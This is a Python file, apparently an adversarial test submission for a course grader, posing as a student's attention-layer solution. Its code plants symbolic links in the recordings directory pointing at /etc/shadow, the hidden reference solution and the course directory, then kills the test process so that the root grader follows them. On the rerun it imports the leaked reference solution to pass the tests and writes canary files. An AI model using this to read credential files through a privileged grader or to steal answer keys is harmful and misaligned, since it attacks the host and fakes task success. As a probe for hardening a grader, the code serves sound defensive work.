"""Class 4: symbolic links in the recordings directory, for the grader (root) to follow.

First run, first call: in the recordings directory (`--kata-record DIR` on our command line)
- `started.txt` -> the course's reference/week2/attention.py (the course is found from
  /proc/self/mountinfo, where a tmpfs hides <course>/reference, or the grader's cwd);
- the finished tests' recordings -> /etc/shadow;
- `home` (a grader that keeps HOME there and chmods it 0777 before each run) -> the course;
then os._exit, so that the grader reads what "started.txt" says to find the test that
killed the child, and starts it again. A grader that reads started.txt through the link and
passes the text on (e.g. as `--deselect <text>`) hands us the reference source; we write
it next to our recordings and import it: the tests then pass with the model solution.
On the rerun we also leave evidence, never content: /tmp/kata_canary_symlinks_shadow if
/etc/shadow's text reached our command line, /tmp/kata_canary_symlinks_chmod if the course
directory became world-writable. Only the recordings directory and those canaries are
written; nothing is written into the course even when it is writable.

Why it must earn nothing: the grader must never follow links the child made, nor create,
change or read through anything in a directory the child can write.
"""

import hashlib
import os
import sys
from pathlib import Path

import torch.nn as nn


def _argv():
    try:
        return Path("/proc/self/cmdline").read_bytes().decode("utf-8", "replace").split("\0")
    except OSError:
        return list(sys.argv)


def _recordings():
    argv = _argv()
    for flag, value in zip(argv, argv[1:]):
        if flag == "--kata-record":
            return Path(value)
    return None


def _course():
    seen = []
    try:
        for line in open("/proc/self/mountinfo"):
            point = line.split()[4]
            if point.endswith(("/reference", "/tests")):
                seen.append(Path(point).parent)
    except OSError:
        pass
    try:
        seen.append(Path(os.readlink(f"/proc/{os.getppid()}/cwd")))
    except OSError:
        pass
    seen += [Path("/work/main"), Path(os.environ.get("GITHUB_WORKSPACE") or "/nonexistent")]
    for path in seen:
        if (path / "pyproject.toml").is_file() and (path / "katas").is_dir():
            return path
    return Path("/work/main")


REC = _recordings()
MARK = None if REC is None else REC / "zz-symlinks-planted"
LEAKED = next((a for a in _argv() if "def scaled_dot_product_attention" in a), None)
_model = None

if REC is not None and MARK.exists():  # the rerun: what did the grader hand us?
    try:
        if any(":" in a and ("root:" in a or "$6$" in a or ":0:0" in a) and "\n" in a for a in _argv()):
            Path("/tmp/kata_canary_symlinks_shadow").write_text("the text of /etc/shadow reached the sandbox's argv\n")
        if os.stat(_course()).st_mode & 0o002:
            Path("/tmp/kata_canary_symlinks_chmod").write_text(f"{_course()} became world-writable\n")
    except OSError:
        pass
    if LEAKED is not None:
        (REC / "kata_leaked_reference.py").write_text(LEAKED)
        sys.path.insert(0, str(REC))
        import kata_leaked_reference as _model  # the model solution, if it leaked

_finished = []


def _plant_and_die():
    current = os.environ.get("PYTEST_CURRENT_TEST", "").rsplit(" (", 1)[0]
    if REC is None or MARK.exists():
        return
    course = _course()
    links = {"started.txt": course / "reference" / "week2" / "attention.py", "home": course}
    for nodeid in _finished:
        if nodeid != current:
            links[hashlib.sha256(nodeid.encode()).hexdigest()[:24] + ".json"] = Path("/etc/shadow")
    for name, target in links.items():
        path = REC / name
        try:
            if path.is_dir() and not path.is_symlink():
                path.rename(REC / f"{name}.moved")
            elif path.exists() or path.is_symlink():
                path.unlink()
            path.symlink_to(target)
        except OSError:
            pass
    if current and current not in _finished:
        _finished.append(current)
    if len(_finished) >= 2:  # a few tests in: some recordings exist to point elsewhere
        MARK.write_text("planted\n")
        os._exit(3)


def _solution():
    if _model is None:
        _plant_and_die()
        raise NotImplementedError
    return _model


# Our own functions and class (a module's functions count as the submission's only when
# they are defined in it), delegating to the leaked model solution when we have it.


def softmax(x, dim=-1):
    return _solution().softmax(x, dim)


def causal_mask(q_len, k_len=None, device=None):
    return _solution().causal_mask(q_len, k_len, device)


def scaled_dot_product_attention(q, k, v, mask=None, is_causal=False):
    return _solution().scaled_dot_product_attention(q, k, v, mask, is_causal)


def attention_numpy(q, k, v, mask=None):
    return _solution().attention_numpy(q, k, v, mask)


class MultiHeadSelfAttention(nn.Module if _model is None else _model.MultiHeadSelfAttention):
    if _model is None:
        def __init__(self, d_model, n_heads, causal=True, bias=True):
            super().__init__()
            raise NotImplementedError
